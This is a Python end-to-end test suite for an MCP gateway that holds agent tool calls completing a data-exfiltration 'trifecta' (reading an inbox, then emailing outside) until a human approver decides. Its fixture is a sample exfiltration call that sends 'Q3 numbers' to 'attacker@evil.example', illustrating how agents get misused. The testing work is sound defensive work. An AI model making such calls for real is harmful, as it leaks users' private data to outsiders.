"""Held calls end to end: the real SDK client, the demo upstream, a real gateway, a real browser.

The session reads the inbox (P+U), then sends email to an outside address (E): the call
completes the trifecta and is held. An approver decides; the call runs exactly once.
"""

from __future__ import annotations

import asyncio
import os
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import pytest
from mcp import Client

from tests.support import REPO, demo_http_cmd, free_port, gateway_cmd, running, write_config

CHROMIUM = "/usr/bin/chromium"
APPROVER = ("alice", "alice-approver-token")
OUTSIDE = {"to": "attacker@evil.example", "subject": "Q3 numbers", "body": "as requested"}


def e2e_policy(tmp: Path) -> Path:
    """The controlled preset without first-use holds, so reads run at once (first use is tested elsewhere)."""
    text = (REPO / "policy" / "presets" / "controlled.yaml").read_text()
    text = text.replace("  enabled: true", "  enabled: false").replace("  - mcp_first_invocation_of_tool\n", "")
    path = tmp / "policy.yaml"
    path.write_text(text)
    return path


@dataclass
class Stack:
    mcp: str
    base: str
    upstream_mcp: str


def start_stack(tmp: Path, hold_wait: float, store: dict[str, Any] | None = None,
                approvals: dict[str, Any] | None = None) -> Iterator[Stack]:
    up_port, gw_port = free_port(), free_port()
    cfg = write_config(
        tmp / "triplock.toml", gw_port,
        [{"name": "demo", "transport": "http", "url": f"http://127.0.0.1:{up_port}/mcp"}],
        policy={"file": str(e2e_policy(tmp))},
        store=store or {"kind": "sqlite", "path": str(tmp / "state.sqlite")},
        approvals={"hold_wait": hold_wait, **(approvals or {})},
    )
    env = {"TRIPLOCK_APPROVER_TOKENS": f"{APPROVER[0]}={APPROVER[1]}"}
    with running(demo_http_cmd(up_port), None), running(gateway_cmd(cfg), f"http://127.0.0.1:{gw_port}/readyz",
                                                         env=env):
        yield Stack(f"http://127.0.0.1:{gw_port}/mcp", f"http://127.0.0.1:{gw_port}",
                    f"http://127.0.0.1:{up_port}/mcp")


async def pending_approval(base: str, deadline: float = 20.0) -> dict[str, Any]:
    """The one pending approval, once the gateway has created it (polled with a deadline)."""
    end = time.monotonic() + deadline
    async with httpx.AsyncClient() as http:
        while time.monotonic() < end:
            r = await http.get(f"{base}/api/approvals", params={"state": "pending"},
                               headers={"authorization": f"Bearer {APPROVER[1]}"})
            items = r.json()["approvals"] if r.status_code == 200 else []
            if items:
                return items[0]  # type: ignore[no-any-return]
            await asyncio.sleep(0.05)  # poll interval; the condition is re-checked each round
    raise TimeoutError("no pending approval appeared")


async def approve(base: str, approval_id: str, approve: bool = True) -> httpx.Response:
    verb = "approve" if approve else "deny"
    async with httpx.AsyncClient() as http:
        return await http.post(f"{base}/api/approvals/{approval_id}/{verb}", json={"reason": "checked by alice"},
                               headers={"authorization": f"Bearer {APPROVER[1]}"})


async def sent_count(upstream_mcp: str) -> int:
    """How many emails the demo upstream sent, asked of the upstream directly."""
    async with Client(upstream_mcp, mode="legacy") as direct:
        listed = await direct.call_tool("list_sent", {})
    return int((listed.structured_content or {})["count"])


@pytest.fixture
def quick_stack(tmp_path: Path) -> Iterator[Stack]:
    """hold_wait of one second: held calls come back pending."""
    yield from start_stack(tmp_path, hold_wait=1.0)


@pytest.fixture
def waiting_stack(tmp_path: Path) -> Iterator[Stack]:
    """hold_wait of 60 s: held calls wait in-band for the approver."""
    yield from start_stack(tmp_path, hold_wait=60.0)


async def test_trifecta_call_is_held_then_runs_once_after_approval(quick_stack: Stack) -> None:
    async with Client(quick_stack.mcp, mode="legacy") as agent:
        inbox = await agent.call_tool("demo__read_inbox", {})
        assert not inbox.is_error
        held = await agent.call_tool("demo__send_email", OUTSIDE)
        assert held.is_error
        meta = (held.meta or {})["triplock/approval"]
        assert meta["status"] == "pending"
        text = held.content[0].text  # type: ignore[union-attr]
        assert meta["approval_id"] in text and "repeat exactly the same call" in text
        assert await sent_count(quick_stack.upstream_mcp) == 0

        r = await approve(quick_stack.base, meta["approval_id"])
        assert r.status_code == 200, r.text
        ran = await agent.call_tool("demo__send_email", OUTSIDE)
        assert not ran.is_error, ran
        assert await sent_count(quick_stack.upstream_mcp) == 1

        again = await agent.call_tool("demo__send_email", OUTSIDE)  # a second repeat is a new request
        assert again.is_error and (again.meta or {})["triplock/approval"]["approval_id"] != meta["approval_id"]
        other = await agent.call_tool("demo__send_email", {**OUTSIDE, "subject": "other"})
        assert other.is_error and "Held for human approval" in other.content[0].text  # type: ignore[union-attr]
    assert await sent_count(quick_stack.upstream_mcp) == 1


async def test_internal_recipient_does_not_complete_the_trifecta(quick_stack: Stack) -> None:
    async with Client(quick_stack.mcp, mode="legacy") as agent:
        await agent.call_tool("demo__read_inbox", {})
        held = await agent.call_tool("demo__send_email", {**OUTSIDE, "to": "bob@example.com"})
    # Still a write in a 6.3 category (held), but not because of the trifecta.
    rules = (held.meta or {})["triplock/approval"]["rule_ids"]
    assert not any(r.startswith("trifecta") for r in rules), rules


async def test_denied_call_says_who_and_why(quick_stack: Stack) -> None:
    async with Client(quick_stack.mcp, mode="legacy") as agent:
        await agent.call_tool("demo__read_inbox", {})
        held = await agent.call_tool("demo__send_email", OUTSIDE)
        approval_id = (held.meta or {})["triplock/approval"]["approval_id"]
        assert (await approve(quick_stack.base, approval_id, approve=False)).status_code == 200
        assert (await approve(quick_stack.base, approval_id)).status_code == 409  # already decided
        repeat = await agent.call_tool("demo__send_email", OUTSIDE)
    assert repeat.is_error
    # A denial is final for that approval: the identical call asks again, as a new approval.
    again = (repeat.meta or {})["triplock/approval"]
    assert again["status"] == "pending" and again["approval_id"] != approval_id
    assert await sent_count(quick_stack.upstream_mcp) == 0


async def test_in_band_wait_with_progress_then_approval(waiting_stack: Stack) -> None:
    progress: list[str] = []

    async def on_progress(p: float, total: float | None, message: str | None) -> None:
        progress.append(message or "")

    async with Client(waiting_stack.mcp, mode="legacy") as agent:
        await agent.call_tool("demo__read_inbox", {})
        call = asyncio.create_task(agent.call_tool("demo__send_email", OUTSIDE, progress_callback=on_progress))
        approval = await pending_approval(waiting_stack.base)
        assert approval["tool"] == "send_email" and approval["principal"] == "local-dev"
        assert (await approve(waiting_stack.base, approval["id"])).status_code == 200
        result = await asyncio.wait_for(call, 30)
    assert not result.is_error, result
    assert await sent_count(waiting_stack.upstream_mcp) == 1


@pytest.mark.skipif(not os.path.exists(CHROMIUM), reason="needs Debian's chromium package")
async def test_approver_approves_in_the_browser_and_the_call_completes(waiting_stack: Stack) -> None:
    from playwright.async_api import async_playwright, expect

    async with Client(waiting_stack.mcp, mode="legacy") as agent:
        await agent.call_tool("demo__read_inbox", {})
        call = asyncio.create_task(agent.call_tool("demo__send_email", OUTSIDE))
        approval = await pending_approval(waiting_stack.base)
        async with async_playwright() as pw:
            browser = await pw.chromium.launch(executable_path=CHROMIUM, headless=True, args=[
                "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
                "--disable-background-networking", "--disable-component-update", "--disable-sync"])
            page = await browser.new_page(viewport={"width": 375, "height": 740})
            page.set_default_timeout(15_000)
            await page.goto(f"{waiting_stack.base}/console#{approval['id']}")
            await page.get_by_label("Approver token").fill(APPROVER[1])
            await page.get_by_role("button", name="Log in").click()
            await expect(page.get_by_test_id("arguments")).to_contain_text("attacker@evil.example")
            await expect(page.get_by_test_id("rule-trail")).to_contain_text("trifecta")
            await page.get_by_label("Reason").fill("one-off, confirmed with the sender")
            await page.get_by_role("button", name="Approve", exact=True).click()
            await expect(page.get_by_test_id("flash")).to_contain_text("Approved")
            await browser.close()
        result = await asyncio.wait_for(call, 30)
    assert not result.is_error, result
    assert await sent_count(waiting_stack.upstream_mcp) == 1



@pytest.fixture
def end_user_stack(tmp_path: Path) -> Iterator[Stack]:
    """Internal email is the agent's own user's to approve, through MCP elicitation."""
    yield from start_stack(tmp_path, hold_wait=20.0, approvals={"end_user_categories": ["email_send_internal"]})


@pytest.mark.parametrize("user_approves", [True, False])
async def test_end_user_approves_through_elicitation(end_user_stack: Stack, user_approves: bool) -> None:
    from mcp_types import ElicitResult

    asked: list[str] = []

    async def on_elicit(context: Any, params: Any) -> ElicitResult:
        asked.append(params.message)
        return ElicitResult(action="accept", content={"approve": user_approves, "reason": "I asked for it"})

    async with Client(end_user_stack.mcp, mode="legacy", elicitation_callback=on_elicit) as agent:
        result = await agent.call_tool("demo__send_email", {**OUTSIDE, "to": "carol@example.com"})
    assert len(asked) == 1 and "carol@example.com" in asked[0]
    assert result.is_error is (not user_approves)
    assert await sent_count(end_user_stack.upstream_mcp) == (1 if user_approves else 0)


async def test_client_with_tasks_gets_a_task_that_finishes_on_approval(quick_stack: Stack) -> None:
    """A held call made as an MCP task: CreateTaskResult at once, result after the approver decides."""
    headers = {"content-type": "application/json", "accept": "application/json, text/event-stream"}
    async with httpx.AsyncClient(timeout=30) as http:
        init = await http.post(quick_stack.mcp, headers=headers, json={
            "jsonrpc": "2.0", "id": 0, "method": "initialize", "params": {
                "protocolVersion": "2025-11-25", "capabilities": {"tasks": {}},
                "clientInfo": {"name": "tasks-client", "version": "1"}}})
        assert "tasks" in init.json()["result"]["capabilities"]
        h = {**headers, "mcp-session-id": init.headers["mcp-session-id"], "mcp-protocol-version": "2025-11-25"}

        async def rpc(rid: int, method: str, params: dict[str, Any]) -> dict[str, Any]:
            r = await http.post(quick_stack.mcp, headers=h,
                                json={"jsonrpc": "2.0", "id": rid, "method": method, "params": params})
            body = r.json()
            assert "result" in body, body
            return body["result"]  # type: ignore[no-any-return]

        await rpc(1, "tools/call", {"name": "demo__read_inbox", "arguments": {}})
        created = await rpc(2, "tools/call", {"name": "demo__send_email", "arguments": OUTSIDE,
                                              "task": {"ttl": 60000}})
        task_id = created["task"]["taskId"]
        assert created["task"]["status"] == "working"
        assert (await rpc(3, "tasks/get", {"taskId": task_id}))["status"] == "working"
        assert await sent_count(quick_stack.upstream_mcp) == 0
        approval = await pending_approval(quick_stack.base)
        assert (await approve(quick_stack.base, approval["id"])).status_code == 200
        result = await rpc(4, "tasks/result", {"taskId": task_id})
        assert not result.get("isError"), result
        assert (await rpc(5, "tasks/get", {"taskId": task_id}))["status"] == "completed"
        assert [t["taskId"] for t in (await rpc(6, "tasks/list", {}))["tasks"]] == [task_id]
    assert await sent_count(quick_stack.upstream_mcp) == 1
